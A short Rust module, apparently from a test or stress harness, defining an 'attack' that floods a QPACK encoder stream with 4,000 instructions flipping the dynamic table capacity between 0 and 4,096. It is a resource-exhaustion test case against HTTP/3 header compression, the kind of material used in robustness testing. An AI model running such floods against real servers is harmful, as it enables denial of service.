//! The dynamic table set to nothing and back, over and over.

use crate::attacker::{Attack, Attacker};
use crate::flood;
use crate::wire;

pub(super) const ATTACK: Attack = Attack::new(
    "capacity_flips",
    "Set Dynamic Table Capacity to 0 and 4,096",
    run,
);

fn run(a: &mut Attacker) {
    let first = wire::capacity(4096);
    let instructions = [wire::capacity(0), wire::capacity(4096)]
        .concat()
        .repeat(4_000);
    flood::encoder(a, &first, &instructions, 4_000);
}
